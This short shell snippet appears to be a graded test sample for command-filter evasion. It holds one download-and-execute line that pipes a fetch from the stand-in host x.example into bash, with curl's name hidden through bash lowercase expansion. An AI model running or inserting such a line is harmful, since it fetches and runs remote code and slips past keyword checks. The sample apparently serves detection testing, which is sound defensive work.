# evasion: ${var,,} lowercases the command
# grade: hard; does: download-exec
C=CURL
${C,,} -s https://x.example/i | bash
